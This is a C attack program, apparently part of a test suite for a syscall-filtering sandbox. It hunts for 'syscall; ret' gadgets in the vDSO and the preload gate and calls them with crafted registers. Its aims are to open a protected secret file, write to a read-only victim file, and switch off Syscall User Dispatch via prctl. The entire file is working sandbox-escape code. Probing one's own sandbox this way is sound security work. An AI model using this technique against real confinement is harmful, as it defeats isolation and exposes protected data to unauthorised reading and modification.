/* Finds `syscall; ret` (0f 05 c3) in executable memory outside this program
 * and libc (ld-preld's gate, the vDSO, ...) and calls each with crafted
 * registers for openat(secret). */
#include "attack.h"
#include "gadget_scan.h"

int main(int argc, char **argv) {
    ARGS
    find_gadgets();
    char *proot = cat2("/proc/self/root", secret);
    char *victim = cat2(ro, "/victim");
    for (int i = 0; i < ncand; i++) {
        char label[128];
        if (sigsetjmp(jb, 1)) { printf("gadget %#lx faulted\n", cands[i]); continue; }
        snprintf(label, sizeof label, "gadget %#lx openat secret", cands[i]);
        show(label, call_gadget(cands[i], SYS_openat, AT_FDCWD, (long)secret, O_RDONLY, 0));
        snprintf(label, sizeof label, "gadget %#lx openat /proc/self/root/secret", cands[i]);
        show(label, call_gadget(cands[i], SYS_openat, AT_FDCWD, (long)proot, O_RDONLY, 0));
        snprintf(label, sizeof label, "gadget %#lx open ro/victim O_WRONLY", cands[i]);
        try_write_ro(label, call_gadget(cands[i], SYS_openat, AT_FDCWD, (long)victim, O_WRONLY, 0));
        long r = call_gadget(cands[i], SYS_prctl, 59 /* PR_SET_SYSCALL_USER_DISPATCH */, 0, 0, 0);
        printf("gadget %#lx prctl SUD off: %ld\n", cands[i], r);
        show("  then raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
        fflush(stdout);
    }
    return 0;
}
